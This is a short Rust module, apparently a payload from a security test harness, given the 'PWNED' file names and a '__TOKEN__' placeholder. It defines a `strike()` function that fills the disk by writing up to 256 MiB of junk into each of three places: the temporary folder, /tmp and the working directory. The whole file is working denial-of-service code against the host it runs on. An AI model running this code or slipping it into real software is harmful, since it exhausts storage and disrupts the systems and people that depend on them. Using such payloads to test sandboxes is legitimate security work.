//! Fills the disk: large files in the temporary folder and in the
//! working directory.

use std::io::Write;

pub fn strike() {
    let chunk = vec![b'x'; 1 << 20];
    for (i, dir) in [std::env::temp_dir(), "/tmp".into(), ".".into()].iter().enumerate() {
        if let Ok(mut f) = std::fs::File::create(dir.join(format!("PWNED-__TOKEN__-{i}"))) {
            for _ in 0..256 {
                if f.write_all(&chunk).is_err() {
                    break;
                }
            }
        }
    }
}
